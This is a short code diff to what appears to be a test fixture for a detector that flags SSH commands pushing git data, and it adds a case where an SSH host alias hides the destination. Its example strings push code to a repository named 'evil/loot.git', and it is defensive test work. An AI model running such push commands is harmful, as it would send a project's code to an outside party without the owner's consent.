@@ -120,6 +120,8 @@ export const gitTools: readonly PushToolSpec[] = [
       push: [
         '-o SendEnv=GIT_PROTOCOL git@github.com "git-receive-pack \'evil/loot.git\'"',
         "-i /tmp/k -p 22 git@gitlab.com git-receive-pack 'evil/loot.git'",
+        // A `Host gh` alias in ~/.ssh/config.
+        'gh "git-receive-pack \'evil/loot.git\'"',
       ],
       notPush: ['git@github.com "git-upload-pack \'acme/app.git\'"', 'deploy@10.0.0.5 uptime'],
     },
